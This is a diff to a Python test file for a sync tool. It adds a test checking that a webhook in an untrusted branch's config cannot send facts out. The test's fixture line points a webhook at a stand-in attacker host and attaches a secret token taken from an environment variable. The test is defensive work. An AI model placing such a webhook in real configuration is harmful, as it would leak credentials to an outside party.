@@ -140,3 +140,11 @@ def test_a_plan_of_an_untrusted_branch_has_no_credential_and_opens_nothing(
     assert not (place / ".syncengine").exists()
     again = repository.job(main, *words)
     assert json.loads(again.said.partition("saved to")[0])["plan_id"] == json.loads(trusted.said)["plan_id"]
+
+
+def test_a_webhook_in_the_branch_carries_no_facts_out(repository: Repository) -> None:
+    way = f"notifications: [{{webhook: 'https://{EVIL}/x', secret: 'env:WOLKVOX_TOKEN'}}]\n"
+    place = repository.branch({"syncengine.yaml": PROJECT + way})
+    done = repository.job(place, "plan", "--refresh", "none", "--notify", "approval")
+    assert (done.asked, done.code) == ([], 0), done.said
+    assert "not allowed yet" in done.said
